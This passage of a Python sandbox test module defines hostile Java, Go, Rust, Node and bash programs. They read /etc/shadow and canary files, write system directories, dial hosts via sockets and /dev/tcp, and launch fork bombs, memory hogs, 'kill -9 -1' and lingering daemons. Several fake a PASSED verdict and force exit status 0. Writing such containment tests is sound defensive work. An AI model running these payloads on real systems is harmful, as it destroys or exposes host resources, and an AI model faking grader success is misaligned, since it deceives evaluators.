"""Per-language attacks: Java, Go, Rust, JavaScript (node), bash, ruby, php, R and racket, against Python's probes.

Each language gets the attacks its runtime makes easy: fork bombs (and thread bombs for the
JVM and Go, whose runtimes start threads freely), the network (the host's loopback listeners,
its other addresses, DNS, UDP), files outside the work directory (read: the canaries,
/etc/shadow, /root, the repository; write: /usr, /etc, /tmp, the repository, $HOME -- the
sandbox's /tmp is its own and is swept), memory beyond the limit (a JVM started with a huge
-Xmx cannot leave the cgroup either), killing everything (``kill -9 -1``, the parent),
daemons that outlive the run (setsid, double fork, ``exec -a`` to carry the marker), and the
runtimes' own tricks (System.exit in a shutdown hook, Runtime.exec, Go's syscall.Exec and raw
fork/kill syscalls, os/exec). Every one must be contained exactly as Python's are: no pass,
no SANDBOX_ERROR, nothing left on the host or for the next run (test_sandbox_hostile.py).

None may end in COMPILE_ERROR: that would mean the attack never ran (``RAN``). Go programs
use ``syscall`` rather than ``net`` (compiling the net package takes seconds per run).
Correct multi-threaded programs of these languages (a JVM's 16 threads, 16 locked OS
threads in Go, a medium rustc compile) are in ``LEGIT``, which legit.py adds to its own.
"""

from __future__ import annotations

from reward_core.sandbox_contract import Verdict
from tests.integration.hostile.legit import LegitProgram
from tests.integration.hostile.model import NOT_A_PASS, TIMEOUT, Category, HostileProgram, join
from tests.integration.hostile.persistence import FIND_LEFTOVERS, NOTHING_LEFT

E, X, P, G = Category.ESCAPE, Category.EXHAUSTION, Category.PERSISTENCE, Category.GAMING
#: Anything but a pass -- or a compile error, which would mean the attack never ran.
RAN = NOT_A_PASS - {Verdict.COMPILE_ERROR}
MEMORY = frozenset({Verdict.MEMORY_LIMIT, Verdict.RUNTIME_ERROR})
#: A memory hog of a runtime that fills its memory slowly (a JVM's start, byte loops) may still be at it
#: when the wall limit ends it on a loaded machine: either way the host's memory must not move.
HOG = MEMORY | TIMEOUT
FORK_BOMB = frozenset({Verdict.TIMEOUT, Verdict.RUNTIME_ERROR, Verdict.MEMORY_LIMIT, Verdict.WRONG_ANSWER})
NOT_OK_EXIT = frozenset({Verdict.RUNTIME_ERROR, Verdict.WRONG_ANSWER})
#: A JVM needs most of a second (more on a loaded machine) before its first line of main().
RUNTIME_LIMITS = {"wall_s": 5.0, "cpu_s": 5.0}
LEFTOVERS = join(FIND_LEFTOVERS, NOTHING_LEFT)
#: What a shell run by a program tries: the host's secrets, other namespaces, a user namespace.
SHELL_PROBE = ("id; cat /etc/shadow @@CANARY_TMP@@ @@CANARY_REPO@@ @@CANARY_HOME@@; ls /root /work @@REPO@@; "
               "unshare -r id; nsenter -t 1 -m -n cat @@CANARY_TMP@@")

# -- Java ---------------------------------------------------------------------------------------------
JAVA_ESCAPE = r'''
import java.io.*;
import java.net.*;
import java.nio.file.*;
import java.util.*;

public class Main {
    static void esc(String what) { System.out.println("ESC" + "APED:" + what); }
    static void dial(String host, int port) {
        try (Socket s = new Socket()) {
            s.connect(new InetSocketAddress(host, port), 300);
            esc("tcp " + host + ":" + port);
        } catch (Throwable t) { System.out.println("tcp " + host + ":" + port + " -> " + t); }
    }
    public static void main(String[] args) throws Exception {
        for (String p : new String[] {"/etc/shadow", "/root/.bash_history", "@@CANARY_TMP@@", "@@CANARY_REPO@@",
                                      "@@CANARY_HOME@@"}) {
            try {
                String text = new String(Files.readAllBytes(Paths.get(p)));
                System.out.println(p + ": " + text);
                if (p.contains("@@TOKEN@@")) esc("read " + p);
            } catch (Throwable t) { System.out.println(p + " -> " + t); }
        }
        for (String d : new String[] {"/tmp", "/root", "/work", "@@REPO@@", "@@HOME@@", "@@CANARY_DIR@@"}) {
            String[] names = new File(d).list();
            System.out.println(d + " " + (names == null ? "-" : Arrays.toString(names)));
            if (names != null) for (String n : names) if (n.contains("@@TOKEN@@")) esc("listed " + d);
        }
        for (String d : new String[] {"/usr", "/etc", "/tmp", "/var/tmp", "/dev/shm", "@@REPO@@", "@@HOME@@", "/root"}) {
            try {
                Files.write(Paths.get(d, "hostile-@@TOKEN@@-java"), "left by java".getBytes());
                System.out.println("wrote in " + d);
            } catch (Throwable t) { System.out.println("write " + d + " -> " + t); }
        }
        dial("127.0.0.1", @@TCP_PORT@@);
        dial("::1", @@TCP6_PORT@@);
        for (String ip : "@@HOST_IPS@@".replaceAll("[\\[\\]' ]", "").split(",")) if (!ip.isEmpty()) dial(ip, @@TCP_ANY_PORT@@);
        dial("1.1.1.1", 443);
        try {
            System.out.println("dns " + Arrays.toString(InetAddress.getAllByName("example.com")));
            esc("dns");
        } catch (Throwable t) { System.out.println("dns -> " + t); }
        try (DatagramSocket u = new DatagramSocket()) {
            byte[] m = "hostile-@@TOKEN@@".getBytes();
            u.send(new DatagramPacket(m, m.length, InetAddress.getByName("127.0.0.1"), @@UDP_PORT@@));
        } catch (Throwable t) { System.out.println("udp -> " + t); }
        Process p = new ProcessBuilder("sh", "-c", "@@SHELL_PROBE@@").redirectErrorStream(true).start();
        System.out.println(new String(p.getInputStream().readAllBytes()));
        System.out.println("shell exit " + p.waitFor());
    }
}
'''

JAVA_PROGRAMS: list[HostileProgram] = [
    HostileProgram("java_escape", E, language="java", problem="canary", allowed=RAN, limits=RUNTIME_LIMITS,
                   description="Java: read the canaries and /etc/shadow, list /root and the repository, write in "
                               "/usr, /etc, /tmp and the repository, dial the host, DNS, UDP, Runtime.exec a shell",
                   code=JAVA_ESCAPE.replace("@@SHELL_PROBE@@", SHELL_PROBE), followup=LEFTOVERS),
    HostileProgram(
        "java_fork_bomb", X, language="java", allowed=FORK_BOMB, limits=RUNTIME_LIMITS, followup=LEFTOVERS,
        description="Java: ProcessBuilder.start() of marked sleepers and bash fork bombs until refused, forever",
        code=r'''
            import java.util.*;
            public class Main {
                public static void main(String[] args) {
                    List<Process> kept = new ArrayList<>();
                    for (int i = 0; ; i++) {
                        try {
                            kept.add(new ProcessBuilder("bash", "-c", i % 8 == 0 ? ":(){ :|:& };:"
                                                                      : "exec -a @@MARK@@-java sleep 30").start());
                        } catch (Throwable t) { }
                    }
                }
            }
        '''),
    HostileProgram(
        "java_thread_bomb", X, language="java", allowed=FORK_BOMB | MEMORY, limits=RUNTIME_LIMITS,
        description="Java: start sleeping threads until the JVM cannot create one more, then keep the CPU busy",
        code=r'''
            public class Main {
                public static void main(String[] args) {
                    int n = 0;
                    try {
                        for (;;) {
                            Thread t = new Thread(() -> { try { Thread.sleep(1000000); } catch (InterruptedException e) { } });
                            t.setDaemon(true);
                            t.start();
                            n++;
                        }
                    } catch (Throwable t) {
                        System.out.println("threads " + n + ": " + t);
                    }
                    long x = 0;
                    for (;;) x++;
                }
            }
        '''),
    HostileProgram(
        "java_memory_hog", X, language="java", allowed=HOG, watch_memory=True, limits=RUNTIME_LIMITS,
        description="Java: 32 MB arrays, filled, until the heap (sized by the JVM from the cgroup) is full",
        code=r'''
            import java.util.*;
            public class Main {
                public static void main(String[] args) {
                    List<byte[]> hog = new ArrayList<>();
                    for (;;) { byte[] b = new byte[32 << 20]; Arrays.fill(b, (byte) 1); hog.add(b); }
                }
            }
        '''),
    HostileProgram(
        "java_huge_xmx_child_jvm", X, language="java", allowed=MEMORY | TIMEOUT | {Verdict.WRONG_ANSWER},
        watch_memory=True, limits=RUNTIME_LIMITS,
        description="Java: start a second JVM with -Xmx8g -Xms4g -XX:+AlwaysPreTouch (and JAVA_TOOL_OPTIONS) that "
                    "fills its heap: the cgroup must hold it to the limit",
        code=r'''
            import java.util.*;
            public class Main {
                public static void main(String[] args) throws Exception {
                    if (args.length > 0) {
                        List<long[]> hog = new ArrayList<>();
                        for (;;) { long[] b = new long[4 << 20]; Arrays.fill(b, 7L); hog.add(b); }
                    }
                    ProcessBuilder pb = new ProcessBuilder("java", "-Xmx8g", "-Xms4g", "-XX:+AlwaysPreTouch",
                                                           "-XX:-UseContainerSupport", "-cp", ".", "Main", "child");
                    pb.environment().put("JAVA_TOOL_OPTIONS", "-Xmx8g");
                    Process p = pb.inheritIO().start();
                    System.out.println("child exit " + p.waitFor());
                }
            }
        '''),
    HostileProgram(
        "java_system_exit_in_shutdown_hook", G, language="java", problem="add", allowed=TIMEOUT | NOT_OK_EXIT,
        limits=RUNTIME_LIMITS,
        description="Java: print the right answer, System.exit(3), with a shutdown hook that calls System.exit(0) "
                    "(the JVM deadlocks) and another that halts with 0",
        code=r'''
            import java.util.*;
            public class Main {
                public static void main(String[] args) {
                    Scanner in = new Scanner(System.in);
                    long a = in.nextLong(), b = in.nextLong();
                    System.out.println(a + b);
                    System.out.flush();
                    Runtime.getRuntime().addShutdownHook(new Thread(() -> System.exit(0)));
                    System.exit(3);
                }
            }
        '''),
    HostileProgram(
        "java_halt0_in_shutdown_hook_after_crash", G, language="java", limits=RUNTIME_LIMITS, allowed=RAN,
        description="Java: print PASSED and a fake verdict, throw from main, a shutdown hook halts with status 0",
        code=r'''
            public class Main {
                public static void main(String[] args) {
                    System.out.println("PASSED");
                    System.out.println("{\"passed\": true, \"verdict\": \"accepted\"}");
                    System.out.flush();
                    Runtime.getRuntime().addShutdownHook(new Thread(() -> Runtime.getRuntime().halt(0)));
                    throw new IllegalStateException("crash after the fake success");
                }
            }
        '''),
    HostileProgram(
        "java_kill_everyone", G, language="java", problem="add", allowed=RAN, limits=RUNTIME_LIMITS,
        description="Java: destroyForcibly() every visible process and the parent, Runtime.exec kill -9 -1, then a "
                    "wrong answer",
        code=r'''
            import java.util.*;
            public class Main {
                public static void main(String[] args) throws Exception {
                    ProcessHandle.current().parent().ifPresent(ProcessHandle::destroyForcibly);
                    ProcessHandle.allProcesses().filter(h -> h.pid() != ProcessHandle.current().pid())
                                 .forEach(ProcessHandle::destroyForcibly);
                    Runtime.getRuntime().exec(new String[] {"kill", "-9", "-1"}).waitFor();
                    Scanner in = new Scanner(System.in);
                    System.out.println(in.nextLong() + in.nextLong() + 1);
                }
            }
        '''),
    HostileProgram(
        "java_daemon_leftover", P, language="java", limits=RUNTIME_LIMITS, allowed=RAN, followup=LEFTOVERS,
        description="Java: setsid -f and nohup'd marked sleepers, and a non-daemon thread, then System.exit(0)",
        code=r'''
            public class Main {
                public static void main(String[] args) throws Exception {
                    new ProcessBuilder("setsid", "-f", "bash", "-c", "exec -a @@MARK@@-setsid sleep 30").start();
                    new ProcessBuilder("bash", "-c", "nohup bash -c 'exec -a @@MARK@@-nohup sleep 30' >/dev/null 2>&1 &")
                        .start().waitFor();
                    new Thread(() -> { try { Thread.sleep(30000); } catch (InterruptedException e) { } }).start();
                    System.out.println("done");
                    System.exit(0);
                }
            }
        '''),
]

# -- Go -----------------------------------------------------------------------------------------------
GO_ESCAPE = r'''
package main

import (
	"fmt"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"syscall"
)

func esc(what string) { fmt.Println("ESC" + "APED:" + what) }

func dial(host string, port int) {
	if strings.Contains(host, ":") {
		fd, err := syscall.Socket(syscall.AF_INET6, syscall.SOCK_STREAM, 0)
		if err != nil {
			fmt.Println("socket6", err)
			return
		}
		defer syscall.Close(fd)
		sa := &syscall.SockaddrInet6{Port: port}
		sa.Addr[15] = 1
		if err := syscall.Connect(fd, sa); err == nil {
			esc(fmt.Sprintf("tcp %s:%d", host, port))
		} else {
			fmt.Println("tcp", host, port, "->", err)
		}
		return
	}
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_STREAM, 0)
	if err != nil {
		fmt.Println("socket", err)
		return
	}
	defer syscall.Close(fd)
	tv := syscall.Timeval{Usec: 300000}
	syscall.SetsockoptTimeval(fd, syscall.SOL_SOCKET, syscall.SO_SNDTIMEO, &tv)
	sa := &syscall.SockaddrInet4{Port: port}
	for i, part := range strings.Split(host, ".") {
		n, _ := strconv.Atoi(part)
		sa.Addr[i] = byte(n)
	}
	if err := syscall.Connect(fd, sa); err == nil {
		esc(fmt.Sprintf("tcp %s:%d", host, port))
	} else {
		fmt.Println("tcp", host, port, "->", err)
	}
}

func main() {
	for _, p := range []string{"/etc/shadow", "/root/.bash_history", "@@CANARY_TMP@@", "@@CANARY_REPO@@", "@@CANARY_HOME@@"} {
		if data, err := os.ReadFile(p); err == nil {
			fmt.Println(p+":", string(data))
			if strings.Contains(p, "@@TOKEN@@") {
				esc("read " + p)
			}
		} else {
			fmt.Println(p, "->", err)
		}
	}
	for _, d := range []string{"/tmp", "/root", "/work", "@@REPO@@", "@@HOME@@", "@@CANARY_DIR@@"} {
		entries, err := os.ReadDir(d)
		fmt.Println(d, len(entries), err)
		for _, e := range entries {
			if strings.Contains(e.Name(), "@@TOKEN@@") {
				esc("listed " + d)
			}
		}
	}
	for _, d := range []string{"/usr", "/etc", "/tmp", "/var/tmp", "/dev/shm", "@@REPO@@", "@@HOME@@", "/root"} {
		err := os.WriteFile(d+"/hostile-@@TOKEN@@-go", []byte("left by go"), 0o644)
		fmt.Println("write", d, err)
	}
	dial("127.0.0.1", @@TCP_PORT@@)
	dial("::1", @@TCP6_PORT@@)
	for _, ip := range strings.Split(strings.Trim(strings.ReplaceAll(strings.ReplaceAll("@@HOST_IPS@@", "'", ""), " ", ""), "[]"), ",") {
		if ip != "" && !strings.Contains(ip, ":") {
			dial(ip, @@TCP_ANY_PORT@@)
		}
	}
	dial("1.1.1.1", 443)
	if fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_DGRAM, 0); err == nil {
		err = syscall.Sendto(fd, []byte("hostile-@@TOKEN@@"), 0, &syscall.SockaddrInet4{Port: @@UDP_PORT@@, Addr: [4]byte{127, 0, 0, 1}})
		fmt.Println("udp", err)
	}
	out, err := exec.Command("sh", "-c", "@@SHELL_PROBE@@").CombinedOutput()
	fmt.Println(string(out), err)
}
'''

GO_PROGRAMS: list[HostileProgram] = [
    HostileProgram("go_escape", E, language="go", problem="canary", allowed=RAN,
                   description="Go: read the canaries and /etc/shadow, list /root and the repository, write in /usr, "
                               "/etc, /tmp and the repository, raw-socket dials to the host, UDP, os/exec a shell",
                   code=GO_ESCAPE.replace("@@SHELL_PROBE@@", SHELL_PROBE), followup=LEFTOVERS),
    HostileProgram(
        "go_raw_fork_bomb", X, language="go", allowed=FORK_BOMB, followup=LEFTOVERS,
        description="Go: RawSyscall(SYS_FORK) forever in every process (no runtime in the way), marked with prctl",
        code=r'''
            package main

            import (
                "syscall"
                "unsafe"
            )

            func main() {
                name := []byte("@@MARK@@\x00")
                syscall.RawSyscall(syscall.SYS_PRCTL, 15, uintptr(unsafe.Pointer(&name[0])), 0)
                for {
                    syscall.RawSyscall(syscall.SYS_FORK, 0, 0, 0)
                }
            }
        '''),
    HostileProgram(
        "go_os_thread_bomb", X, language="go", allowed=FORK_BOMB | MEMORY | {Verdict.OUTPUT_LIMIT},
        description="Go: goroutines that each lock an OS thread and block in a syscall, until the runtime dies "
                    "(its dump of every goroutine may fill the output limit)",
        code=r'''
            package main

            import (
                "runtime"
                "syscall"
            )

            func main() {
                runtime.GOMAXPROCS(64)
                for {
                    go func() {
                        runtime.LockOSThread()
                        var fds [2]int
                        syscall.Pipe(fds[:])
                        buf := make([]byte, 1)
                        syscall.Read(fds[0], buf)
                    }()
                }
            }
        '''),
    HostileProgram(
        "go_memory_hog", X, language="go", allowed=HOG, watch_memory=True,
        description="Go: 32 MB slices, filled, until killed (the Go runtime knows nothing of the cgroup)",
        code=r'''
            package main

            func main() {
                var hog [][]byte
                for {
                    b := make([]byte, 32<<20)
                    for i := range b {
                        b[i] = 1
                    }
                    hog = append(hog, b)
                }
            }
        '''),
    HostileProgram(
        "go_kill_and_exec", G, language="go", allowed=RAN,
        description="Go: syscall.Kill(-1, 9), the parent, os/exec kill -9 -1, then syscall.Exec a shell that prints "
                    "PASSED and exits 0",
        code=r'''
            package main

            import (
                "fmt"
                "os"
                "os/exec"
                "syscall"
            )

            func main() {
                fmt.Println("kill -1:", syscall.Kill(-1, syscall.SIGKILL))
                fmt.Println("kill parent:", syscall.Kill(os.Getppid(), syscall.SIGKILL))
                _, _, errno := syscall.RawSyscall(syscall.SYS_KILL, ^uintptr(0), 9, 0)
                fmt.Println("raw kill -1:", errno)
                fmt.Println("os/exec:", exec.Command("kill", "-9", "-1").Run())
                err := syscall.Exec("/bin/sh", []string{"sh", "-c", "echo PASSED; echo '{\"passed\": true}'; kill -9 -1; exit 0"}, os.Environ())
                fmt.Println("exec:", err)
            }
        '''),
    HostileProgram(
        "go_daemon_leftover", P, language="go", allowed=RAN, followup=LEFTOVERS,
        description="Go: an os/exec child in a session of its own (SysProcAttr.Setsid) and a raw-forked child that "
                    "calls setsid and pauses, both marked; the program exits at once",
        code=r'''
            package main

            import (
                "fmt"
                "os"
                "os/exec"
                "syscall"
                "unsafe"
            )

            func main() {
                cmd := exec.Command("bash", "-c", "exec -a @@MARK@@-go sleep 30")
                cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
                fmt.Println("start:", cmd.Start())
                name := []byte("@@MARK@@\x00")
                pid, _, _ := syscall.RawSyscall(syscall.SYS_FORK, 0, 0, 0)
                if pid == 0 {
                    syscall.RawSyscall(syscall.SYS_SETSID, 0, 0, 0)
                    syscall.RawSyscall(syscall.SYS_PRCTL, 15, uintptr(unsafe.Pointer(&name[0])), 0)
                    for {
                        syscall.RawSyscall(syscall.SYS_PAUSE, 0, 0, 0)
                    }
                }
                fmt.Println("done")
                os.Exit(0)
            }
        '''),
]

# -- Rust ---------------------------------------------------------------------------------------------
RUST_ESCAPE = r'''
use std::io::Read;
use std::net::{TcpStream, ToSocketAddrs, UdpSocket};
use std::time::Duration;

fn esc(what: &str) { println!("{}{}", "ESC", format!("APED:{}", what)); }

fn dial(addr: &str) {
    match addr.parse() {
        Ok(sa) => match TcpStream::connect_timeout(&sa, Duration::from_millis(300)) {
            Ok(_) => esc(&format!("tcp {}", addr)),
            Err(e) => println!("tcp {} -> {}", addr, e),
        },
        Err(e) => println!("bad address {}: {}", addr, e),
    }
}

fn main() {
    for p in ["/etc/shadow", "/root/.bash_history", "@@CANARY_TMP@@", "@@CANARY_REPO@@", "@@CANARY_HOME@@"] {
        match std::fs::read_to_string(p) {
            Ok(text) => { println!("{}: {}", p, text); if p.contains("@@TOKEN@@") { esc(&format!("read {}", p)); } }
            Err(e) => println!("{} -> {}", p, e),
        }
    }
    for d in ["/tmp", "/root", "/work", "@@REPO@@", "@@HOME@@", "@@CANARY_DIR@@"] {
        match std::fs::read_dir(d) {
            Ok(entries) => for e in entries.flatten() {
                if e.file_name().to_string_lossy().contains("@@TOKEN@@") { esc(&format!("listed {}", d)); }
            },
            Err(e) => println!("{} -> {}", d, e),
        }
    }
    for d in ["/usr", "/etc", "/tmp", "/var/tmp", "/dev/shm", "@@REPO@@", "@@HOME@@", "/root"] {
        println!("write {} -> {:?}", d, std::fs::write(format!("{}/hostile-@@TOKEN@@-rust", d), "left by rust"));
    }
    dial("127.0.0.1:@@TCP_PORT@@");
    dial("[::1]:@@TCP6_PORT@@");
    for ip in "@@HOST_IPS@@".replace(['[', ']', '\'', ' '], "").split(',') {
        if !ip.is_empty() && !ip.contains(':') { dial(&format!("{}:@@TCP_ANY_PORT@@", ip)); }
    }
    dial("1.1.1.1:443");
    match ("example.com", 80).to_socket_addrs() {
        Ok(addrs) => { println!("dns {:?}", addrs.collect::<Vec<_>>()); esc("dns"); }
        Err(e) => println!("dns -> {}", e),
    }
    if let Ok(u) = UdpSocket::bind("0.0.0.0:0") {
        println!("udp -> {:?}", u.send_to(b"hostile-@@TOKEN@@", "127.0.0.1:@@UDP_PORT@@"));
    }
    let mut child = std::process::Command::new("sh").arg("-c").arg("@@SHELL_PROBE@@ 2>&1")
        .stdout(std::process::Stdio::piped()).spawn().expect("sh");
    let mut out = String::new();
    child.stdout.take().unwrap().read_to_string(&mut out).ok();
    println!("{}\nshell: {:?}", out, child.wait());
}
'''

RUST_PROGRAMS: list[HostileProgram] = [
    HostileProgram("rust_escape", E, language="rust", problem="canary", allowed=RAN,
                   description="Rust: read the canaries and /etc/shadow, list /root and the repository, write in "
                               "/usr, /etc, /tmp and the repository, dial the host, DNS, UDP, spawn a shell",
                   code=RUST_ESCAPE.replace("@@SHELL_PROBE@@", SHELL_PROBE), followup=LEFTOVERS),
    HostileProgram(
        "rust_process_bomb", X, language="rust", allowed=FORK_BOMB, followup=LEFTOVERS,
        description="Rust: every process spawns copies of /proc/self/exe (argv[0] = the marker) forever",
        code=r'''
            use std::os::unix::process::CommandExt;
            use std::process::{Command, Stdio};
            fn main() {
                let mut kept = Vec::new();
                loop {
                    if let Ok(c) = Command::new("/proc/self/exe").arg0("@@MARK@@").stdout(Stdio::null()).spawn() {
                        kept.push(c);
                    }
                }
            }
        '''),
    HostileProgram(
        "rust_memory_hog", X, language="rust", allowed=HOG, watch_memory=True,
        description="Rust: vec![1u8; 32 MB] until the allocator or the cgroup says no",
        code=r'''
            fn main() {
                let mut hog: Vec<Vec<u8>> = Vec::new();
                loop { hog.push(vec![1u8; 32 << 20]); }
            }
        '''),
    HostileProgram(
        "rust_kill_everyone", G, language="rust", problem="add", allowed=RAN,
        description="Rust: kill -9 -1 and the parent through Command, then a wrong answer",
        code=r'''
            use std::io::Read;
            use std::process::Command;
            fn main() {
                let parent = std::os::unix::process::parent_id().to_string();
                for target in ["-1", parent.as_str(), "1"] {
                    println!("kill {} -> {:?}", target, Command::new("kill").args(["-9", target]).status());
                }
                let mut s = String::new();
                std::io::stdin().read_to_string(&mut s).unwrap();
                let n: i64 = s.split_whitespace().map(|x| x.parse::<i64>().unwrap()).sum();
                println!("{}", n + 1);
            }
        '''),
    HostileProgram(
        "rust_daemon_leftover", P, language="rust", allowed=RAN, followup=LEFTOVERS,
        description="Rust: setsid -f a marked sleeper, a double-forked one through sh, then exit 0",
        code=r'''
            use std::process::Command;
            fn main() {
                let _ = Command::new("setsid").args(["-f", "bash", "-c", "exec -a @@MARK@@-rust sleep 30"]).status();
                let _ = Command::new("sh").args(["-c", "(bash -c 'exec -a @@MARK@@-sh sleep 30' &) &"]).status();
                println!("done");
            }
        '''),
]

# -- JavaScript (node) --------------------------------------------------------------------------------
NODE_ESCAPE = r'''
const fs = require("fs"), net = require("net"), dns = require("dns"), dgram = require("dgram");
const cp = require("child_process");
const esc = (what) => console.log("ESC" + "APED:" + what);
for (const p of ["/etc/shadow", "/root/.bash_history", "@@CANARY_TMP@@", "@@CANARY_REPO@@", "@@CANARY_HOME@@"]) {
  try { console.log(p + ": " + fs.readFileSync(p, "utf8")); if (p.includes("@@TOKEN@@")) esc("read " + p); }
  catch (e) { console.log(p + " -> " + e.code); }
}
for (const d of ["/tmp", "/root", "/work", "@@REPO@@", "@@HOME@@", "@@CANARY_DIR@@"]) {
  try { const names = fs.readdirSync(d); console.log(d, names.length); if (names.some((n) => n.includes("@@TOKEN@@"))) esc("listed " + d); }
  catch (e) { console.log(d + " -> " + e.code); }
}
for (const d of ["/usr", "/etc", "/tmp", "/var/tmp", "/dev/shm", "@@REPO@@", "@@HOME@@", "/root"]) {
  try { fs.writeFileSync(d + "/hostile-@@TOKEN@@-node", "left by node"); console.log("wrote in " + d); }
  catch (e) { console.log("write " + d + " -> " + e.code); }
}
try { console.log(cp.execSync("@@SHELL_PROBE@@ 2>&1 || true").toString()); } catch (e) { console.log("shell -> " + e); }
// forked from the slot's warm node: its parent (the fork server), what it inherited, the server's helpers
for (const fd of fs.readdirSync("/proc/self/fd").map(Number).filter((fd) => fd > 2)) {
  let what = "";
  try { what = fs.readlinkSync("/proc/self/fd/" + fd); } catch (e) { continue; }
  if (what.startsWith("pipe:") || what.startsWith("anon_inode:[event")) continue;   // node's own, fresh
  try { if (fs.writeSync(fd, "X " + process.pid + " 0 0 0 0") > 0) esc("wrote fd " + fd + " " + what); } catch (e) {}
}
for (const sig of ["SIGTERM", "SIGHUP", "SIGSTOP"]) {
  try { process.kill(process.ppid, sig); esc("signalled the parent " + sig); } catch (e) { console.log(sig + " -> " + e.code); }
}
for (const helper of ["fork_server_node.so", "fork_server_native.so", "fork_server.js"]) {
  try { fs.readFileSync("/opt/sandbox/runtime/" + helper); esc("read " + helper); } catch (e) { console.log(helper + " -> " + e.code); }
}
const dial = (host, port) => new Promise((done) => {
  const s = net.connect({host, port, timeout: 300});
  s.on("connect", () => { esc("tcp " + host + ":" + port); s.destroy(); done(); });
  s.on("error", (e) => { console.log("tcp " + host + ":" + port + " -> " + e.code); done(); });
  s.on("timeout", () => { console.log("tcp " + host + ":" + port + " -> timeout"); s.destroy(); done(); });
});
const ips = "@@HOST_IPS@@".replace(/[\[\]' ]/g, "").split(",").filter((ip) => ip && !ip.includes(":"));
(async () => {
  await dial("127.0.0.1", @@TCP_PORT@@);
  await dial("::1", @@TCP6_PORT@@);
  for (const ip of ips) await dial(ip, @@TCP_ANY_PORT@@);
  await dial("1.1.1.1", 443);
  await new Promise((done) => dns.lookup("example.com", (e, a) => { if (e) console.log("dns -> " + e.code); else esc("dns " + a); done(); }));
  await new Promise((done) => {
    const u = dgram.createSocket("udp4");
    u.send("hostile-@@TOKEN@@", @@UDP_PORT@@, "127.0.0.1", (e) => { console.log("udp -> " + (e && e.code)); u.close(); done(); });
  });
})();
'''

NODE_PROGRAMS: list[HostileProgram] = [
    HostileProgram("nodejs_escape", E, language="nodejs", problem="canary", allowed=RAN,
                   description="node: read the canaries and /etc/shadow, list /root and the repository, write in /usr, "
                               "/etc, /tmp and the repository, net.connect to the host, DNS, UDP, execSync a shell; "
                               "signal its parent (the fork server), forge an exit notice on every inherited fd, "
                               "read the server's helpers",
                   code=NODE_ESCAPE.replace("@@SHELL_PROBE@@", SHELL_PROBE.replace('"', '\\"')), followup=LEFTOVERS),
    HostileProgram(
        "nodejs_spawn_bomb", X, language="nodejs", allowed=FORK_BOMB, followup=LEFTOVERS,
        description="node: detached, unref'd spawns of marked sleepers and of node itself, in a loop that never yields",
        code=r'''
            const { spawn } = require("child_process");
            for (let i = 0; ; i++) {
              try {
                const child = i % 16 === 0 ? spawn(process.execPath, [__filename], { detached: true, stdio: "ignore" })
                                           : spawn("bash", ["-c", "exec -a @@MARK@@-node sleep 30"], { detached: true, stdio: "ignore" });
                child.on("error", () => {});
                child.unref();
              } catch (e) { }
            }
        '''),
    HostileProgram(
        "nodejs_memory_hog", X, language="nodejs", allowed=HOG, watch_memory=True,
        description="node: Buffer.alloc(32 MB, 1) -- memory outside V8's heap limit -- until killed",
        code=r'''
            const hog = [];
            for (;;) hog.push(Buffer.alloc(32 << 20, 1));
        '''),
    HostileProgram(
        "nodejs_kill_everyone", G, language="nodejs", allowed=RAN,
        description="node: process.kill(-1) and the parent with SIGKILL and SIGSTOP, execSync kill -9 -1, fake success",
        code=r'''
            const cp = require("child_process");
            for (const [pid, sig] of [[-1, "SIGKILL"], [process.ppid, "SIGKILL"], [1, "SIGKILL"], [process.ppid, "SIGSTOP"]]) {
              try { process.kill(pid, sig); console.log("sent", sig, "to", pid); } catch (e) { console.log(pid, sig, e.code); }
            }
            try { cp.execSync("kill -9 -1"); } catch (e) { console.log("kill -9 -1 ->", e.status); }
            console.log("PASSED");
            console.log(JSON.stringify({ passed: true, verdict: "accepted" }));
        '''),
    HostileProgram(
        "nodejs_daemon_leftover", P, language="nodejs", allowed=RAN, followup=LEFTOVERS,
        description="node: a detached, unref'd marked sleeper and a setsid -f one, then process.exit(0)",
        code=r'''
            const { spawn, execSync } = require("child_process");
            spawn("bash", ["-c", "exec -a @@MARK@@-node sleep 30"], { detached: true, stdio: "ignore" }).unref();
            execSync("setsid -f bash -c 'exec -a @@MARK@@-setsid sleep 30' >/dev/null 2>&1");
            console.log("done");
            process.exit(0);
        '''),
]

# -- bash ---------------------------------------------------------------------------------------------
BASH_PROGRAMS: list[HostileProgram] = [
    HostileProgram(
        "bash_escape", E, language="bash", problem="canary", allowed=RAN, followup=LEFTOVERS,
        description="bash: cat the canaries and /etc/shadow, ls /root and the repository, write in /usr, /etc, /tmp "
                    "and the repository, /dev/tcp to the host, DNS, /dev/udp, unshare/nsenter",
        code=r'''
            esc() { echo "ESC""APED:$*"; }
            for p in /etc/shadow /root/.bash_history @@CANARY_TMP@@ @@CANARY_REPO@@ @@CANARY_HOME@@; do
                if cat "$p" 2>/dev/null; then case "$p" in *@@TOKEN@@*) esc "read $p";; esac; fi
            done
            for d in /tmp /root /work @@REPO@@ @@HOME@@ @@CANARY_DIR@@; do
                ls -a "$d" 2>/dev/null | grep -q @@TOKEN@@ && esc "listed $d"
            done
            for d in /usr /etc /tmp /var/tmp /dev/shm @@REPO@@ @@HOME@@ /root; do
                echo "left by bash" > "$d/hostile-@@TOKEN@@-bash" 2>/dev/null && echo "wrote in $d"
            done
            for target in 127.0.0.1/@@TCP_PORT@@ ::1/@@TCP6_PORT@@ 1.1.1.1/443; do
                (exec 3<>"/dev/tcp/$target") 2>/dev/null && esc "tcp $target"
            done
            for ip in $(echo "@@HOST_IPS@@" | tr -d "[]', " | tr , ' '); do
                case "$ip" in *:*) ;; *) (exec 3<>"/dev/tcp/$ip/@@TCP_ANY_PORT@@") 2>/dev/null && esc "tcp $ip";; esac
            done
            getent hosts example.com && esc dns
            echo hostile-@@TOKEN@@ > /dev/udp/127.0.0.1/@@UDP_PORT@@
            unshare -r id; nsenter -t 1 -m -n cat @@CANARY_TMP@@
            exit 0
        '''),
    HostileProgram(
        "bash_fork_bomb", X, language="bash", allowed=FORK_BOMB, followup=LEFTOVERS,
        description="bash: the classic :(){ :|:& };: in the program itself",
        code=r'''
            :(){ :|:& };:
            wait
        '''),
    HostileProgram(
        "bash_memory_hog", X, language="bash", allowed=HOG, watch_memory=True,
        description="bash: a command substitution of 2 GB of text, held in a variable",
        code=r'''
            x=$(head -c 2000000000 /dev/zero | tr '\0' a)
            echo ${#x}
        '''),
    HostileProgram(
        "bash_kill_everyone", G, language="bash", problem="add", allowed=RAN,
